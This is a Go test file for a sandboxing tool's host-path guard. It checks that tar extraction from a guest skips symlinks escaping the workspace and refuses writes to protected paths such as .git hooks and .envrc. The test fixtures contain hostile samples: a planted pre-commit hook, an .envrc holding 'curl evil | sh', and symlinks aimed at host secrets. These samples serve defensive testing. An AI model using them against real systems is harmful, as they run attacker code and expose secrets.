package hostpath

import (
	"archive/tar"
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/sandboxforge/sbf/internal/coded"
)

type entry struct {
	name, body, link string
	dir              bool
}

func tarOf(t *testing.T, entries ...entry) *bytes.Buffer {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		hdr := &tar.Header{Name: e.name, Mode: 0o644, Size: int64(len(e.body)), Typeflag: tar.TypeReg}
		switch {
		case e.dir:
			hdr.Typeflag, hdr.Mode, hdr.Size = tar.TypeDir, 0o755, 0
		case e.link != "":
			hdr.Typeflag, hdr.Linkname, hdr.Size = tar.TypeSymlink, e.link, 0
		}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(e.body))
	}
	tw.Close()
	return &buf
}

func TestGuardRules(t *testing.T) {
	g := Guard{Protect: []string{".envrc", "deploy/secrets"}}
	for rel, want := range map[string]string{
		".sandboxforge.toml": ".sandboxforge*.toml", "sub/.sandboxforge.local.toml": ".sandboxforge*.toml",
		"a/b/.lima-mcp.toml": ".lima-mcp*.toml", ".orbitforge.toml": ".orbitforge*.toml",
		".sandboxforge/state.json": ".sandboxforge", "x/.sandboxforge/overrides.toml": ".sandboxforge",
		".git/hooks/pre-commit": ".git", "vendor/lib/.git/config": ".git", ".git": ".git",
		".envrc": ".envrc", "web/.envrc": ".envrc", "deploy/secrets/key": "deploy/secrets",
		"./.git/../.git/x": ".git",
		"src/main.go":      "", ".env": "", "sandboxforge.toml": "", ".gitignore": "", "deploy/app": "", ".": "",
	} {
		r, bad := g.Rule(rel)
		if bad != (want != "") || r.Pattern != want {
			t.Errorf("%s: rule %q (%v), want %q", rel, r.Pattern, bad, want)
		}
	}
	if err := g.Check(".git/hooks/x", "GIT"); !denied(err) {
		t.Errorf("Check: %v", err)
	}
}

// What a guest sends back is written inside the destination only: links
// that lead out (absolute, .., through a link already there) and entries
// sbf protects are left out and reported; the rest arrives.
func TestWriterExtractSkipsLinksOutAndProtectedPaths(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	os.WriteFile(filepath.Join(outside, "secret"), []byte("S"), 0o600)
	os.Symlink(outside, filepath.Join(ws, "link-out"))
	os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755)
	os.Symlink(".git/hooks", filepath.Join(ws, "hooks"))
	w, err := Policy{Roots: []string{ws}}.Writer(ws, "out", Guard{Protect: DefaultProtect})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	rep, err := w.Extract(tarOf(t,
		entry{name: "top/", dir: true},
		entry{name: "top/ok.txt", body: "fine"},
		entry{name: "top/.env", body: "A=1"},
		entry{name: "top/abslink", link: outside + "/secret"},
		entry{name: "top/dotdot", link: "../../link-out/secret"},
		entry{name: "top/via", link: "../link-out"},
		entry{name: "top/inner", link: "ok.txt"},
		entry{name: "top/sub/.sandboxforge.toml", body: "[vm]\ndriver = \"sim\"\n"},
		entry{name: "top/.git/hooks/pre-commit", body: "#!/bin/sh\ntouch /tmp/pwned\n"},
		entry{name: "top/.envrc", body: "curl evil | sh"},
		entry{name: "top/tohooks", link: "../hooks"},
	), "top")
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "out", "ok.txt")); string(b) != "fine" {
		t.Errorf("ok.txt = %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "out", ".env")); string(b) != "A=1" {
		t.Errorf(".env (a dotfile, not protected) = %q", b)
	}
	if target, _ := os.Readlink(filepath.Join(ws, "out", "inner")); target != "ok.txt" {
		t.Errorf("a link inside the destination was not kept: %q", target)
	}
	for _, gone := range []string{"abslink", "dotdot", "via", "tohooks", "sub/.sandboxforge.toml", ".git", ".envrc"} {
		if _, err := os.Lstat(filepath.Join(ws, "out", gone)); err == nil {
			t.Errorf("%s was written", gone)
		}
	}
	var links, paths []string
	for _, l := range rep.SkippedLinks {
		links = append(links, l.Path)
	}
	for _, p := range rep.SkippedPaths {
		paths = append(paths, p.Path+"="+p.Rule)
	}
	slices.Sort(links)
	slices.Sort(paths)
	if want := []string{"out/abslink", "out/dotdot", "out/tohooks", "out/via"}; !slices.Equal(links, want) {
		t.Errorf("skipped links = %v, want %v", links, want)
	}
	if want := []string{"out/.envrc=.envrc", "out/.git/hooks/pre-commit=.git",
		"out/sub/.sandboxforge.toml=.sandboxforge*.toml"}; !slices.Equal(paths, want) {
		t.Errorf("skipped paths = %v, want %v", paths, want)
	}
}

// A file written through a link the person made (hooks -> .git/hooks) is
// judged where it lands.
func TestWriterJudgesPathsThroughExistingLinks(t *testing.T) {
	ws := t.TempDir()
	os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755)
	os.Symlink(".git/hooks", filepath.Join(ws, "hooks"))
	if _, err := (Policy{Roots: []string{ws}}).Writer(ws, "hooks/pre-commit", Guard{}); !denied(err) {
		t.Errorf("destination through a link into .git: %v", err)
	}
	w, err := Policy{Roots: []string{ws}}.Writer(ws, ".", Guard{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	rep, err := w.Extract(tarOf(t, entry{name: "hooks/pre-commit", body: "x"}), "")
	if err != nil || len(rep.SkippedPaths) != 1 {
		t.Fatalf("%+v %v", rep, err)
	}
	if _, err := os.Stat(filepath.Join(ws, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("a hook was written through the person's link")
	}
}

func TestWriterRefusesProtectedDestinations(t *testing.T) {
	ws := t.TempDir()
	p := Policy{Roots: []string{ws}}
	for _, dest := range []string{".sandboxforge.local.toml", "sub/.sandboxforge.toml", ".git/hooks/pre-commit",
		".sandboxforge", ".sandboxforge/overrides.toml", ".lima-mcp.toml", ".envrc", "x/.git"} {
		_, err := p.Writer(ws, dest, Guard{Protect: DefaultProtect})
		var ce *coded.Error
		if !errors.As(err, &ce) || ce.Code != Denied || ce.Details["rule"] == nil {
			t.Errorf("%s: %v", dest, err)
		}
	}
	if _, err := os.Stat(filepath.Join(ws, "sub")); err == nil {
		t.Error("a refused destination created a folder")
	}
}

// The env file is never read or written through a link: a guest-planted
// .env -> /host/secret would otherwise copy the secret into the workspace.
func TestWriterFileRefusesLinks(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	os.WriteFile(filepath.Join(outside, "secret"), []byte("TOKEN=hunter2\n"), 0o600)
	os.Symlink(filepath.Join(outside, "secret"), filepath.Join(ws, ".env"))
	w, err := Policy{Roots: []string{ws}}.Writer(ws, ".env", Guard{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if _, _, err := w.ReadFile(); !errors.Is(err, ErrLink) {
		t.Errorf("read through a link: %v", err)
	}
	if err := w.WriteFile([]byte("A=1\n"), 0o600); !errors.Is(err, ErrLink) {
		t.Errorf("write through a link: %v", err)
	}
	if b, _ := os.ReadFile(filepath.Join(outside, "secret")); string(b) != "TOKEN=hunter2\n" {
		t.Errorf("the link's target changed: %q", b)
	}
	w2, _ := Policy{Roots: []string{ws}}.Writer(ws, "env/app.env", Guard{})
	defer w2.Close()
	if data, _, err := w2.ReadFile(); data != nil || err != nil {
		t.Errorf("missing file: %q %v", data, err)
	}
	if err := w2.WriteFile([]byte("B=2\n"), 0o640); err != nil {
		t.Fatal(err)
	}
	if info, _ := os.Stat(filepath.Join(ws, "env", "app.env")); info == nil || info.Mode().Perm() != 0o640 {
		t.Errorf("written file: %v", info)
	}
	if entries, _ := os.ReadDir(filepath.Join(ws, "env")); len(entries) != 1 {
		t.Errorf("a temporary file was left: %v", entries)
	}
}

func TestBelowKeepsDotfilesOfTheRoot(t *testing.T) {
	for _, c := range [][3]string{{".", ".env", ".env"}, {".", ".", ""}, {"src", "src/.env", ".env"},
		{"src", "src", ""}, {"a/b", "a/b/c/d", "c/d"}} {
		if got, err := Below(c[0], c[1]); err != nil || got != c[2] {
			t.Errorf("Below(%q, %q) = %q %v, want %q", c[0], c[1], got, err, c[2])
		}
	}
}
